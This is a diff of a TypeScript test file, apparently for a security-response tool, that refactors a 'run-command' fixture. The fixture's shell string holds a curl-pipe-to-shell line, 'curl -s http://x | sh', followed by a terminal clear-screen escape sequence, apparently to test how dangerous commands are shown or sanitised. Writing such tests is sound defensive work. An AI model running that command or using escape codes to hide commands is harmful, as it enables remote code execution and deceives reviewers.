@@ -4,6 +4,7 @@ import type { Finding } from '../../src/findings/finding.ts';
 import type { OperationTarget } from '../../src/operations/operation.ts';
 import type { InputDefinition } from '../../src/playbook/playbook.ts';
 import {
+  COMMAND,
   makeFile,
   makeFinding,
   makeLook,
@@ -30,12 +31,9 @@ const CONNECTION: Finding['subject'] = {
   isNamedOnly: false,
 };
 const RUN: OperationTarget = {
-  ...{
-    kind: 'run-command',
-    command: { shell: 'first line\ncurl -s http://x | sh #\u001b[2J\n\n last line' },
-  },
-  ...{ environment: {}, secretNames: [], workingFolder: null, timeoutMs: 1000, risk: 'reversible' },
-  ...{ verify: null, undo: null },
+  ...COMMAND,
+  command: { shell: 'first line\ncurl -s http://x | sh #\u001b[2J\n\n last line' },
+  risk: 'reversible',
 };
 const MOVE: OperationTarget = { kind: 'quarantine-file', file: makeFile('/etc/cron.d/x') };
 
